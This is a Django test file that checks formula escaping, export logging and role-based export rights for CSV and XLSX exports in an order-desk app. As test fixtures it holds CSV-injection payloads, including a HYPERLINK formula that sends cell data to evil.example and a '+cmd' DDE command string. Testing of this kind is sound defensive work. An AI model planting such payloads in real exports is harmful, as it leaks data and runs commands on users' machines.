"""Exports under the trade-secret regime: no formula survives, every export is recorded,
and only roles with the export right get a file."""

import io
from datetime import timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.contrib import admin
from django.contrib.auth.models import Group, Permission
from django.forms import BooleanField
from django.urls import reverse
from django.utils import timezone

from calls.price_lists import price_list_csv
from clients.models import Client
from orderdesk.exports import PLAIN_NUMBER, escape_cell
from orderdesk.models import ExportRecord
from orderdesk.roles import Role
from orders.models import Order
from tests.factories import (
    CallFactory,
    ClientFactory,
    OrderFactory,
    ProductFactory,
    ProductPriceFactory,
    UserFactory,
    make_staff,
)

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1250.00", "-1250.00"),
        ("+74951000001", "+74951000001"),
        ("ООО «Ромашка»", "ООО «Ромашка»"),
        (Decimal("-5"), Decimal("-5")),
        (12, 12),
        ("", ""),
    ],
)
def test_escape_cell(value, expected):
    assert escape_cell(value) == expected


@pytest.fixture
def head_with_evil_rows(client):
    head = make_staff(role=Role.HEAD)
    evil = ClientFactory(manager=head, name=EVIL)
    now = timezone.now()
    CallFactory(client=evil, started_at=now, notes="=1+1")
    CallFactory(client=evil, started_at=now - timedelta(minutes=1), notes="@cmd")
    OrderFactory(
        client=evil,
        status=Order.Status.ACCEPTED,
        number="E-1",
        accepted_at=now,
        total=Decimal("10.00"),
    )
    client.force_login(head)
    return head


def _csv(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8-sig")


@pytest.mark.parametrize("url_name", ["calls:call_log", "orders:order_log"])
def test_log_csv_escapes_formulas(client, head_with_evil_rows, url_name):
    response = client.get(reverse(url_name), {"format": "csv"})
    assert response.status_code == 200
    body = _csv(response)
    assert "'=HYPERLINK" in body
    for line in body.splitlines()[1:]:
        for cell in line.split(";"):
            cell = cell.strip('"')
            assert not cell.startswith(("=", "@", "-", "+")) or PLAIN_NUMBER.fullmatch(cell)


def test_call_log_csv_escapes_notes(client, head_with_evil_rows):
    body = _csv(client.get(reverse("calls:call_log"), {"format": "csv"}))
    assert "'=1+1" in body and "'@cmd" in body


@pytest.mark.parametrize("url_name", ["calls:call_log", "orders:order_log"])
def test_each_log_export_is_recorded(client, head_with_evil_rows, url_name):
    response = client.get(reverse(url_name), {"format": "csv", "client": "HYPER", "after": ""})
    _csv(response)  # the record counts rows as they are sent

    record = ExportRecord.objects.get()
    assert record.by == head_with_evil_rows
    assert record.list_name in ("call_log", "order_log")
    assert record.file_format == "csv"
    assert record.filters == {"client": "HYPER"}
    assert record.rows == (2 if url_name == "calls:call_log" else 1)


def test_html_pages_record_nothing(client, head_with_evil_rows):
    client.get(reverse("calls:call_log"))
    client.get(reverse("orders:order_log"), HTTP_HX_REQUEST="true")
    assert not ExportRecord.objects.exists()


@pytest.mark.parametrize("url_name", ["calls:call_log", "orders:order_log"])
def test_operators_cannot_export(client, url_name):
    client.force_login(make_staff(role=Role.OPERATOR))
    response = client.get(reverse(url_name), {"format": "csv"})
    assert response.status_code == 403
    assert not ExportRecord.objects.exists()


def test_a_reviewer_without_the_export_right_sees_the_log_but_cannot_export(client):
    reviewer = UserFactory()
    group = Group.objects.create(name="Reviewer without export")
    group.permissions.set(Permission.objects.filter(codename__in=["review_orders", "view_order"]))
    reviewer.groups.add(group)
    client.force_login(reviewer)

    page = client.get(reverse("orders:order_log"))
    assert page.status_code == 200
    assert "format=csv" not in page.content.decode()
    assert client.get(reverse("orders:order_log"), {"format": "csv"}).status_code == 403


@pytest.mark.parametrize("role", [Role.MANAGER, Role.HEAD, Role.FINANCE, Role.ADMIN])
def test_reviewing_roles_hold_the_export_right(role):
    assert make_staff(role=role).has_perm("orderdesk.export_lists")


def test_operator_does_not_hold_the_export_right():
    assert not make_staff(role=Role.OPERATOR).has_perm("orderdesk.export_lists")


def test_price_list_csv_escapes_formulas():
    price = ProductPriceFactory(product=ProductFactory(name="=cmd()"))
    body = price_list_csv(None).decode("utf-8-sig")
    assert price.product.name in body
    assert "'=cmd()" in body


# --- the admin's django-import-export exports -------------------------------------


@pytest.fixture
def admin_client(client):
    client.force_login(UserFactory(username="boss", role=Role.ADMIN, is_staff=True))
    return client


def _admin_export(admin_client, title):
    model_admin = admin.site._registry[Client]
    index = [f().get_title() for f in model_admin.get_export_formats()].index(title)
    url = reverse("admin:clients_client_export")
    form = admin_client.get(url).context["form"]
    data = {name: "on" for name, f in form.fields.items() if isinstance(f, BooleanField)}
    data.update(resource="0", format=str(index))
    response = admin_client.post(url, data)
    assert response.status_code == 200
    return b"".join(response.streaming_content if response.streaming else [response.content])


def test_admin_client_export_csv_escapes_formulas_and_is_recorded(admin_client):
    ClientFactory(name=EVIL)
    ClientFactory(name="@SUM(1)")

    body = _admin_export(admin_client, "csv").decode("utf-8-sig")

    assert "'=HYPERLINK" in body and "'@SUM(1)" in body
    record = ExportRecord.objects.get()
    assert (record.list_name, record.file_format, record.rows) == ("admin:clients.client", "csv", 2)


def test_admin_client_export_xlsx_has_no_formula(admin_client):
    ClientFactory(name=EVIL)

    body = _admin_export(admin_client, "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "'" + EVIL in values
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)


def test_export_records_are_read_only_in_the_admin(admin_client):
    record = ExportRecord.objects.create(
        by=UserFactory(), list_name="call_log", file_format="csv", rows=3
    )
    listing = admin_client.get(reverse("admin:orderdesk_exportrecord_changelist"))
    assert listing.status_code == 200 and "call_log" in listing.content.decode()
    assert admin_client.get(reverse("admin:orderdesk_exportrecord_add")).status_code == 403
    change = admin_client.post(
        reverse("admin:orderdesk_exportrecord_change", args=[record.pk]), {"rows": 0}
    )
    assert change.status_code in (200, 403)
    record.refresh_from_db()
    assert record.rows == 3


def test_every_role_permission_exists_after_the_migrations():
    from orderdesk.roles import ROLE_PERMISSIONS

    for role, codes in ROLE_PERMISSIONS.items():
        granted = {
            f"{p.content_type.app_label}.{p.codename}"
            for p in Group.objects.get(name=str(role)).permissions.select_related("content_type")
        }
        assert set(codes) == granted, role
